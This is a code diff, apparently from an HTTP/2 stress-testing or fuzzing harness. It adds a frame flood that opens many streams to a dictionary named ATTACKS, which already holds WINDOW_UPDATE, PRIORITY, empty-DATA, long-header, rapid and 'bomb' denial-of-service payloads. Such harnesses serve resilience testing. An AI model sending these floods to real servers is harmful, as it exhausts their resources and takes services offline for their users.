@@ -57,6 +57,7 @@ ATTACKS = {
     "windows": lambda: HELLO + frame(8, 0, 0, b"\0\0\0\1") * 200000,
     "priorities": lambda: HELLO + b"".join(frame(2, 0, n, b"\0\0\0\0\x10") for n in range(1, 200001, 2)),
     "rapid": lambda: HELLO + rapid(),
+    "streams": lambda: HELLO + b"".join(frame(1, 4, n, GET) for n in range(1, 601, 2)),
     "bomb": lambda: HELLO + bomb(),
     "long": lambda: HELLO + long_head(4000000),
     "empty": lambda: HELLO + frame(1, 4, 1, GET) + frame(0, 0, 1) * 500000,
